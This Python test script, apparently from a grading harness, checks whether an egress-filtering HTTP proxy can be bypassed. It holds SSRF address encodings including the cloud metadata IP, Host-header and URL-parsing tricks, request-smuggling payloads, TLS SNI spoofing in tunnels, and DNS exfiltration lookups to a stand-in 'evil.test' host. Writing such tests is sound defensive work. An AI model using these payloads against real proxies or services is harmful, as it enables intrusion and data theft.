# argv: a port. On it listen, outside, a host that may be reached, allowed.test at 127.0.0.2, and one
# at 127.0.0.1 that may not and says "forbidden". tls.test may be reached at 443 only.
import os, re, socket, ssl, sys, urllib.request
from attack import escaped
port = int(sys.argv[1])
place = re.search(r"//([\d.]+):(\d+)", os.environ["http_proxy"]).groups()


def exchange(*parts):
    with socket.create_connection(place, 5) as s:
        try:
            for part in parts:
                s.sendall(part)
            answer = b""
            while more := s.recv(65536):
                answer += more
        except OSError:
            pass
        return answer


def refused(what, *parts):
    answer = exchange(*parts)
    if re.match(rb"HTTP/1.. 2..", answer) or b"forbidden: " in answer:
        escaped(96, what, answer[:300])


def get(host, said=None, more=b""):
    return b"GET http://%b/ HTTP/1.1\r\nHost: %b\r\n%b\r\n" % (host, said or host, more)


def hello(name):
    """What a TLS client says first."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    try:
        context.wrap_bio(incoming, outgoing, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError:
        return outgoing.read()


def tunnel(host, first):
    """What comes back through a tunnel into which this is sent."""
    with socket.create_connection(place, 5) as s:
        s.sendall(b"CONNECT %b HTTP/1.1\r\nHost: %b\r\n\r\n" % (host, host))
        answer = s.recv(4096)
        if not answer.startswith(b"HTTP/1.1 200"):
            return answer
        try:
            for part in first:
                s.sendall(part)
            s.shutdown(socket.SHUT_WR)
            return s.recv(4096)
        except OSError:
            return b""


allowed = b"allowed.test:%d" % port
if b"allowed: GET / HTTP/1.1" not in exchange(get(allowed)):
    print("allowed.test cannot be reached:", exchange(get(allowed)))
if b"allowed" not in exchange(get(b"Allowed.Test.:%d" % port)):
    print("a name is another name in capitals")

for host in ("127.0.0.1", "2130706433", "0x7f000001", "0177.0.0.1", "127.1", "0", "0.0.0.0", "localhost", "[::1]",
             "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[::127.0.0.1]", "[64:ff9b::7f00:1]", "forbidden.test",
             "x.allowed.test", "allowed.test.x", "169.254.169.254", "allowed.test%00.x", "allowed.test%2f"):
    host = b"%b:%d" % (host.encode(), port)
    refused("literal %s" % host, get(host))
    refused("tunnel to %s" % host, b"CONNECT %b HTTP/1.1\r\nHost: %b\r\n\r\n" % (host, host))
for other in (1, 22, 80, 443, port - 1, port + 1, 0, 65536 + port):
    refused("port %d" % other, get(b"allowed.test:%d" % other))
for kind in range(10):  # private, link-local and so on, by their addresses
    refused("address of kind %d" % kind, get(b"inside%d.test:%d" % (kind, port)))
    refused("address of kind %d" % kind, b"CONNECT inside%d.test:%d HTTP/1.1\r\n\r\n" % (kind, port))
for _ in range(10):  # at 127.0.0.2 and 127.0.0.1 in turn
    exchange(get(b"rebound.test:%d" % port))
    if b"forbidden: " in exchange(get(b"both.test:%d" % port)):  # at 127.0.0.1 and 127.0.0.2 at once
        escaped(96, "the wrong one of two addresses")

for said in (b"forbidden.test", b"127.0.0.1:%d" % port, allowed + b"/x", b"u@" + allowed, b"", b" "):
    refused("Host %s" % said, b"GET http://%b/ HTTP/1.1\r\nHost: %b\r\n\r\n" % (allowed, said))
refused("two Hosts", get(allowed, more=b"Host: forbidden.test\r\n"))
refused("no Host", b"GET http://%b/ HTTP/1.1\r\n\r\n" % allowed)
refused("a folded Host", b"GET http://%b/ HTTP/1.1\r\nHost: %b\r\n forbidden.test\r\n\r\n" % (allowed, allowed))
refused("a Host with a space", get(allowed, more=b"Host : forbidden.test\r\n"))
for target in (b"/", b"*", b"//127.0.0.1:%d/" % port, b"https://%b/" % allowed, b"ftp://%b/" % allowed,
               b"http://%b@127.0.0.1:%d/" % (allowed, port), b"http://127.0.0.1:%d#@%b/" % (port, allowed),
               b"http://127.0.0.1:%d\\@%b/" % (port, allowed), b"http://%b\t@x/" % allowed):
    refused("target %s" % target, b"GET %b HTTP/1.1\r\nHost: %b\r\n\r\n" % (target, allowed))

# What is behind a request is no request.
second = b"GET /second HTTP/1.1\r\nHost: forbidden.test\r\n\r\n"
for what, request in (
        ("one behind the other", get(allowed) + second),
        ("length and chunks", get(allowed, more=b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n") + b"0\r\n\r\n" + second),
        ("two lengths", get(allowed, more=b"Content-Length: 0\r\nContent-Length: %d\r\n" % len(second)) + second),
        ("a length that is none", get(allowed, more=b"Content-Length: +0\r\n") + second),
        ("chunks unseen", get(allowed, more=b"Transfer-Encoding: chunked\r\nConnection: transfer-encoding\r\n") + b"0\r\n\r\n" + second),
        ("chunks misspelt", get(allowed, more=b"Transfer-Encoding: xchunked\r\n") + second),
        ("length unseen", get(allowed, more=b"Content-Length: 3\r\nConnection: content-length, host\r\n") + b"abc" + second)):
    if b"second" in exchange(request):
        escaped(96, what)
answer = exchange(b"POST http://%b/ HTTP/1.1\r\nHost: %b\r\nTransfer-Encoding: chunked\r\n\r\n" % (allowed, allowed),
                  b"3\r\nabc\r\n", b"2\r\nde\r\n0\r\n\r\n")
if b"abc" not in answer or b"de" not in answer:
    print("a body in chunks does not arrive:", answer)
for redirect in (b"127.0.0.1", b"forbidden.test", b"inside0.test"):
    request = urllib.request.Request("http://allowed.test:%d/to?http://%s:%d/" % (port, redirect.decode(), port))
    try:
        escaped(96, "redirect", urllib.request.urlopen(request, timeout=5).read())
    except OSError as error:
        if getattr(error, "code", 403) != 403:
            print("redirect:", error)

# In tunnels. The host answers to whatever arrives.
for what, first in (("another name", [hello("forbidden.test")]), ("no name", [hello(None)]),
                    ("another name, a byte at a time", [bytes([b]) for b in hello("forbidden.test")]),
                    ("a part of the name", [hello("allowed.tes")]), ("half a hello", [hello("allowed.test")[:-1]]),
                    ("something like TLS", [b"\x16\x03\x01\x00\x05\x02\0\0\0\0"])):
    if tunnel(allowed, first):
        escaped(96, "TLS with", what)
for name in ("allowed.test", "ALLOWED.test"):
    if not tunnel(allowed, [hello(name)]):
        print("the right name does not arrive")
whole = hello("allowed.test")
cut = [b"\x16\x03\x01\x00\x20" + whole[5:37], b"\x16\x03\x01" + (len(whole) - 37).to_bytes(2, "big") + whole[37:]]
if not tunnel(allowed, cut):
    print("a name in two records does not arrive")
if not tunnel(allowed, [b"no TLS at all"]):
    print("what the list has by number is open to anything")
if tunnel(b"tls.test:443", [b"no TLS at all"]):
    escaped(96, "no TLS through a tunnel")
if not tunnel(b"tls.test:443", [hello("tls.test")]):
    print("TLS does not arrive")

# Names are looked up for nobody else's sake.
for name in (b"secret-of-mine.allowed.test", b"c2VjcmV0.evil.test", b"secret.test"):
    refused("look-up of %s" % name, get(name + b":%d" % port))
    refused("look-up of %s" % name, get(name))
for kind, target in ((socket.SOCK_STREAM, ("127.0.0.53", 53)), (socket.SOCK_DGRAM, ("8.8.8.8", 53))):
    try:
        with socket.socket(socket.AF_INET, kind) as s:
            s.connect(target)
            s.send(b"x")
        escaped(98, "a name server at", target)
    except OSError:
        pass
for name in ("allowed.test", "secret.test"):
    try:
        escaped(98, name, "is", socket.getaddrinfo(name, 80))
    except OSError:
        pass
print("done")
